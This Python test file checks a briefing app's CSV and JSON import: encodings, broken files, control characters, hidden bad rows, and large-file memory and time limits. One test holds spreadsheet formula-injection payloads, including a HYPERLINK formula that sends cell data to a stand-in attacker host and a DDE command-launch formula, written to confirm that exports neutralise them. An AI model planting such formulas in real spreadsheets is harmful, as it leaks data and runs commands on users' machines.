"""Import files as they arrive from spreadsheets and other people.

``tests/store/test_store_import.py`` covers the ordinary problems one by one
(BOM with semicolons, a cp1252 byte, wrong cell counts, unknown columns,
3,000 rows streamed). Here: whole files as Excel and friends write them, a
file of 100,000 rows, formula cells, files that are broken in the middle,
and a handful of bad rows hidden in a big good file. Every refusal names
the lines, and a refused file changes nothing at all (not even a backup).
"""

from __future__ import annotations

import csv
import io
import sqlite3
import time
import tracemalloc
from pathlib import Path

import pytest
from hostile_support import write_rows

from briefing_app.cli import main
from briefing_app.errors import ImportValidationError
from briefing_app.store import backups

CLUSTER = {
    "slug": "imported",
    "name": "Imported cluster",
    "kind": "industrial-cluster",
    "country": "FD",
    "region": "cao-nguyen",
    "local_name": "Cụm nhập khẩu",
    "sectors": "aquaculture;seaweed",
    "established": "2015",
    "description": 'Line one,\nline two; with "quotes".',
    "source": "freedonia-cluster-survey",
}


def snapshot(path: Path) -> list:
    """Every row of every table (search index aside), to prove nothing changed."""
    conn = sqlite3.connect(path)
    try:
        tables = [
            t
            for (t,) in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' "
                "AND name NOT LIKE 'search_index%' ORDER BY name"
            )
        ]
        return [(t, list(conn.execute(f"SELECT * FROM [{t}] ORDER BY 1"))) for t in tables]
    finally:
        conn.close()


def refused(store, entity: str, path: Path) -> ImportValidationError:
    before = snapshot(store.path)
    with pytest.raises(ImportValidationError) as caught:
        store.import_file(entity, path)
    assert snapshot(store.path) == before, "a refused file must change nothing"
    assert backups.list_backups(store.path) == [], "nothing written, so no backup either"
    assert "nothing imported" in str(caught.value)
    return caught.value


# -- what spreadsheets write ------------------------------------------------------------


def test_excel_utf8_csv_with_bom_crlf_and_semicolons(tiny_store, tmp_path):
    text = io.StringIO()
    writer = csv.DictWriter(text, list(CLUSTER), delimiter=";", lineterminator="\r\n")
    writer.writeheader()
    writer.writerow(CLUSTER)
    path = tmp_path / "excel.csv"
    path.write_bytes("\ufeff".encode() + text.getvalue().encode("utf-8"))
    assert tiny_store.import_file("clusters", path) == 1
    stored = tiny_store.get("clusters", "imported")
    assert stored.local_name == "Cụm nhập khẩu" and stored.sectors == ("aquaculture", "seaweed")
    assert stored.description == CLUSTER["description"].replace("\r\n", "\n")


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1", "utf-16"])
def test_legacy_encodings_are_refused_with_the_line_not_guessed(tiny_store, tmp_path, encoding):
    rows = [dict(CLUSTER, slug=f"ok-{i}", local_name="", description="plain") for i in range(3)]
    rows.append(
        dict(CLUSTER, slug="zurich", name="Zürich café cluster", local_name="", description="plain")
    )
    path = write_rows(tmp_path / "legacy.csv", rows, encoding=encoding)
    error = refused(tiny_store, "clusters", path)
    [problem] = error.problems
    assert problem.line == (1 if encoding == "utf-16" else 5)
    assert "not UTF-8" in problem.message and "save it as UTF-8" in problem.message


def test_formula_cells_are_kept_as_text_and_exported_defused(tiny_store, tmp_path):
    formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
    ]
    rows = [
        dict(CLUSTER, slug=f"formula-{i}", name=f, description="") for i, f in enumerate(formulas)
    ]
    assert tiny_store.import_file("clusters", write_rows(tmp_path / "f.csv", rows)) == len(formulas)
    assert [
        tiny_store.get("clusters", f"formula-{i}").name for i in range(len(formulas))
    ] == formulas
    exported = tmp_path / "out.csv"
    tiny_store.export_file("clusters", exported)
    with open(exported, encoding="utf-8", newline="") as handle:
        names = [
            row["name"] for row in csv.DictReader(handle) if row["slug"].startswith("formula-")
        ]
    assert names and not any(n[:1] in "=+-@" for n in names), "a spreadsheet must not run them"
    tiny_store.import_file("clusters", exported)  # and the round trip gives the same text back
    assert sorted(
        tiny_store.get("clusters", f"formula-{i}").name for i in range(len(formulas))
    ) == sorted(formulas)


# -- broken files -------------------------------------------------------------------------

BROKEN = {
    "unterminated-quote": (
        b'slug,title\nok,Fine\nbad,"never closed\nmore text\n',
        4,
        "not valid CSV",
    ),
    "field-beyond-the-csv-limit": (b"slug,title\nok," + b"x" * 200_000 + b"\n", 2, "not valid CSV"),
    "header-only-names-twice": (b"slug,title,title\nok,A,B\n", 1, "column appears twice"),
    "empty-file": (b"", 0, "empty"),
    "truncated-utf8": ("slug,title\nok,杭州".encode()[:-1], 2, "middle of a UTF-8 character"),
    "only-blank-lines": (b"\r\n,,\r\n  \r\n", 0, "only blank lines"),
    "title-line": (b"Sources export\r\nslug,title\r\nok,Fine\r\n", 1, "not look like the header"),
    "nul-in-a-cell": (b"slug,title\nok,Fi\x00ne\n", 2, "control character U+0000 (null"),
    "escape-sequence": (b"slug,title\nok,\x1b[31mred\x1b[0m\n", 2, "U+001B (escape"),
    "json-nul": (b'[{"slug": "ok", "title": "a\\u0000b"}]', 1, "U+0000"),
}


@pytest.mark.parametrize("case", BROKEN.keys())
def test_broken_files_are_refused_with_a_line(tiny_store, tmp_path, case):
    data, line, words = BROKEN[case]
    path = tmp_path / ("broken.json" if case.startswith("json") else "broken.csv")
    path.write_bytes(data)
    error = refused(tiny_store, "sources", path)
    assert error.problems[0].line == line and words in error.problems[0].message


# -- what spreadsheets put around the rows, and invisible characters ---------------------


def spreadsheet_file(path: Path, before: str, header_end: str, rows: list[dict]) -> Path:
    """CLUSTER-shaped rows as Excel writes them, with lines above and padding after."""
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\r\n")
    writer.writerow(list(CLUSTER))
    writer.writerows([list(r.values()) for r in rows])
    header, body = text.getvalue().split("\r\n", 1)
    path.write_bytes(("\ufeff" + before + header + header_end + "\r\n" + body).encode("utf-8"))
    return path


def run_import(path: Path, db: Path, capsys) -> tuple[int, str, str]:
    """The command as a user types it (it opens the file with the default sections)."""
    status = main(["import", "clusters", str(path), "--db", str(db)])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return status, out, err


def cluster_tables(path: Path) -> list:
    """The cluster rows and their links (the command also loads the built-in sections)."""
    return [table for table in snapshot(path) if table[0].startswith("cluster")]


def test_an_empty_first_row_and_a_padded_header_import_from_the_command_line(
    tiny_store, tmp_path, capsys
):
    rows = [dict(CLUSTER, slug=f"sheet-{i}") for i in range(3)]
    path = spreadsheet_file(tmp_path / "sheet.csv", "\r\n,,,,,,\r\n", ",,,", rows)
    status, out, err = run_import(path, tiny_store.path, capsys)
    assert status == 0 and "imported 3 clusters" in out and err == ""
    assert tiny_store.get("clusters", "sheet-2").description == CLUSTER["description"]


def test_a_title_row_is_refused_from_the_command_line_with_where_the_header_is(
    tiny_store, tmp_path, capsys
):
    path = spreadsheet_file(
        tmp_path / "titled.csv", "Clusters export 2026,,,\r\n,,,\r\n", "", [CLUSTER]
    )
    before = cluster_tables(tiny_store.path)
    status, _, err = run_import(path, tiny_store.path, capsys)
    assert status == 1 and cluster_tables(tiny_store.path) == before
    assert "1 problem(s), nothing imported" in err
    assert (
        "line 1: does not look like the header row: expected the columns slug, name, kind, "
        "country, region, local_name, city, city_local, industry, sectors, established, "
        "description, source, editor_note; found 'Clusters export 2026'. The header row seems "
        "to be line 3: delete the lines above it and import again." in err
    )


def test_control_characters_are_refused_from_the_command_line_and_never_stored(
    tiny_store, tmp_path, capsys
):
    rows = [dict(CLUSTER, slug=f"ctl-{i}", description="clean") for i in range(5)]
    rows[1] = dict(rows[1], description="copied from a PDF\x00 with a NUL")  # line 3
    rows[3] = dict(rows[3], name="Red \x1b[31mcluster\x1b[0m")  # line 5
    path = spreadsheet_file(tmp_path / "ctl.csv", "", "", rows)
    before = cluster_tables(tiny_store.path)
    status, _, err = run_import(path, tiny_store.path, capsys)
    assert status == 1 and cluster_tables(tiny_store.path) == before
    assert backups.list_backups(tiny_store.path) == []
    assert (
        "line 3, column 'description': contains the control character U+0000 "
        "(null, at character 18); remove it" in err
    )
    assert (
        "line 5, column 'name': contains the control character U+001B (escape, at character 5); "
        "remove it" in err
    )
    assert "\x1b" not in err and "\x00" not in err, "the terminal never receives them"


def test_deeply_nested_json_is_a_clear_problem(tiny_store, tmp_path):
    path = tmp_path / "deep.json"
    path.write_bytes(b"[" + b"[" * 100_000 + b"]" * 100_000 + b"]")
    error = refused(tiny_store, "sources", path)
    assert error.problems[0].line == 1


def test_json_that_is_not_a_list_of_objects(tiny_store, tmp_path):
    path = tmp_path / "odd.json"
    path.write_text(
        '[\n  {"slug": "a", "title": "A"},\n  "just text",\n  42\n]\n', encoding="utf-8"
    )
    error = refused(tiny_store, "sources", path)
    assert [p.line for p in error.problems] == [3, 4]


# -- missing and extra columns, dangling references, all or nothing -------------------


def test_bad_rows_hidden_in_a_big_good_file_are_all_reported_and_nothing_is_written(
    tiny_store, tmp_path
):
    rows = [dict(CLUSTER, slug=f"good-{i}", description="") for i in range(2000)]
    rows[100] = dict(rows[100], region="atlantis")  # line 102
    rows[999] = dict(rows[999], sectors="aquaculture;no-such-sector")  # line 1001
    rows[1500] = dict(rows[1500], source="no-such-source")  # line 1502
    rows[1998] = dict(rows[1998], country="ZZ")  # line 2000
    error = refused(tiny_store, "clusters", write_rows(tmp_path / "big.csv", rows))
    found = {(p.line, p.column) for p in error.problems}
    assert {(102, "region"), (1001, "sectors"), (1502, "source")} <= found
    assert {p.line for p in error.problems} == {102, 1001, 1502, 2000}
    assert all(p.line for p in error.problems), "every problem points at a line"


def test_missing_and_extra_columns_and_cells(tiny_store, tmp_path):
    path = tmp_path / "columns.csv"
    path.write_text(
        "slug,name,kind,country,colour\n"
        "a,A,industrial-cluster,FD,red\n"
        "b,B,industrial-cluster,FD,red,extra,cells\n",
        encoding="utf-8",
    )
    error = refused(tiny_store, "clusters", path)
    columns = {p.column for p in error.problems if p.line == 1}
    assert "colour" in columns and "region" in columns


def test_many_problems_are_summarised_not_flooded(tiny_store, tmp_path, capsys):
    rows = [dict(CLUSTER, slug=f"bad-{i}", region="atlantis", description="") for i in range(300)]
    path = write_rows(tmp_path / "bad.csv", rows)
    status = main(["import", "clusters", str(path), "--db", str(tiny_store.path)])
    err = capsys.readouterr().err
    assert status == 1 and "300 problem(s), nothing imported" in err and "... and 250 more" in err
    assert "line 2, column 'region'" in err and "Traceback" not in err
    assert len(tiny_store.clusters()) == 4


# -- size ---------------------------------------------------------------------------------

ROWS = 100_000


def test_a_hundred_thousand_rows_in_bounded_memory_and_time(tiny_store, tmp_path):
    path = tmp_path / "huge.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["slug", "title", "publisher", "published"])
        for i in range(ROWS):
            writer.writerow(
                [
                    f"source-{i:06d}",
                    f"Statistical note number {i}, on Freedonian harbours",
                    "Office",
                    str(1990 + i % 35),
                ]
            )
    started = time.monotonic()
    tracemalloc.start()
    try:
        assert tiny_store.import_file("sources", path) == ROWS
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    seconds = time.monotonic() - started
    assert peak < 200 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"
    assert seconds < 60, (
        f"{seconds:.1f} s"
    )  # generous for slow machines; about 10 s here with tracing on
    assert tiny_store.counts()["sources"] == ROWS + 2
